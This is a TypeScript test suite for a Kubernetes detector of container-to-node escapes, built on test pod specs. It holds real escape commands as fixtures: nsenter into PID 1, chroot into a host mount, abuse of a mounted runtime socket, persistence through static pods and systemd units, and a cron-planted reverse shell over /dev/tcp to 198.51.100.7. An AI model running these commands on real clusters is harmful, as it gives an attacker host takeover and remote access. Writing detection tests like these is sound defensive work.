/** node-escape (T1611): commands that break out of the container onto the node, and their honest twins. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { cronJob, findingsOf } from '../indicator-helpers.js';

interface Pod {
  command: string[];
  hostPID?: boolean;
  /** [hostPath, mountPath] pairs. */
  mounts?: Array<[string, string]>;
  env?: Array<[string, string]>;
}

function pod({ command, hostPID, mounts = [], env = [] }: Pod): string {
  const lines = ['restartPolicy: Never'];
  if (hostPID) lines.push('hostPID: true');
  lines.push('containers:', '- name: main', '  image: registry.example/ops/tool:1', `  command: ${JSON.stringify(command)}`);
  if (env.length > 0) lines.push('  env:', ...env.flatMap(([name, value]) => [`  - name: ${name}`, `    value: ${JSON.stringify(value)}`]));
  if (mounts.length > 0) lines.push('  volumeMounts:', ...mounts.map(([, mountPath], index) => `  - {name: v${index}, mountPath: ${mountPath}}`));
  if (mounts.length > 0) lines.push('volumes:', ...mounts.map(([hostPath], index) => `- {name: v${index}, hostPath: {path: ${hostPath}}}`));
  return cronJob(lines.join('\n'));
}

function escapes(spec: Pod) {
  return findingsOf(pod(spec), 'node-escape');
}

function assertEscape(spec: Pod, message: RegExp, severity = 'error'): void {
  const found = escapes(spec);
  assert.ok(found.some((finding) => finding.severity === severity && message.test(finding.message)), JSON.stringify(found.map((f) => `${f.severity} ${f.message}`)));
}

const sh = (script: string) => ['/bin/sh', '-c', script];

describe('node-escape reports', () => {
  test('nsenter --target 1 under hostPID', () => assertEscape({ command: ['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash'], hostPID: true }, /PID 1 \(nsenter under hostPID\)/));
  test('nsenter -t1 -a inside a script, through sudo', () => assertEscape({ command: sh('sudo nsenter -t1 -a sh -c id'), hostPID: true }, /nsenter under hostPID/));
  test('nsenter into /proc/1/ns without hostPID is a warning', () => assertEscape({ command: ['nsenter', '--mount=/proc/1/ns/mnt', 'sh'] }, /PID 1's namespaces/, 'warning'));
  test('chroot into the mounted node root', () => assertEscape({ command: ['chroot', '/host', 'bash'], mounts: [['/', '/host']] }, /chroot/));
  test('docker -H at the mounted socket', () => assertEscape({ command: sh('docker -H unix:///hostrun/docker.sock run --privileged -v /:/h alpine'), mounts: [['/var/run', '/hostrun']] }, /docker → \/var\/run\/docker.sock/));
  test('docker with the socket at its default path', () => assertEscape({ command: ['docker', 'ps'], mounts: [['/var/run/docker.sock', '/var/run/docker.sock']] }, /mounted socket/));
  test('crictl pointed at containerd through DOCKER-style env', () => assertEscape({ command: ['crictl', 'ps'], env: [['CONTAINER_RUNTIME_ENDPOINT', 'unix:///rt/containerd.sock']], mounts: [['/run/containerd', '/rt']] }, /crictl/));
  test('ctr at the mounted containerd socket', () => assertEscape({ command: ['ctr', '-a', '/c/containerd.sock', 'tasks', 'ls'], mounts: [['/run/containerd/containerd.sock', '/c/containerd.sock']] }, /ctr/));
  test('mounting a node disk', () => assertEscape({ command: sh('mkdir /mnt/h && mount /dev/nvme0n1p1 /mnt/h') }, /disk \/dev\/nvme0n1p1/));
  test('a cron entry written through a host mount', () => assertEscape({ command: sh('echo "* * * * * root sh -i >& /dev/tcp/198.51.100.7/1 0>&1" > /host/etc/cron.d/x'), mounts: [['/', '/host']] }, /\/etc\/cron\.d\/x/));
  test('a static pod dropped into the kubelet manifests', () => assertEscape({ command: sh('cp /tmp/pod.yaml /k8s/manifests/'), mounts: [['/etc/kubernetes', '/k8s']] }, /\/etc\/kubernetes\/manifests/));
  test('a systemd unit via tee, relative to cd', () => assertEscape({ command: sh('cd /node/etc/systemd/system && tee evil.service < /tmp/u'), mounts: [['/', '/node']] }, /systemd\/system\/evil.service/));
});

describe('node-escape stays quiet on', () => {
  test('docker in CI against a sidecar daemon, no host socket', () => assert.deepEqual(escapes({ command: sh('docker build -t app . && docker push app'), env: [['DOCKER_HOST', 'tcp://localhost:2375']] }), []));
  test('docker with no socket mounted at all', () => assert.deepEqual(escapes({ command: ['docker', 'version'] }), []));
  test('writing logs into a host log folder', () => assert.deepEqual(escapes({ command: sh('echo done >> /logs/job.log'), mounts: [['/var/log/jobs', '/logs']] }), []));
  test('chroot into a directory that is not a host mount', () => assert.deepEqual(escapes({ command: ['chroot', '/build/rootfs', 'make'] }), []));
  test('kubectl and helm jobs', () => assert.deepEqual(escapes({ command: sh('kubectl apply -f /manifests && helm upgrade --install app /chart') }), []));
  test('mounting a tmpfs', () => assert.deepEqual(escapes({ command: sh('mount -t tmpfs tmpfs /scratch') }), []));
});
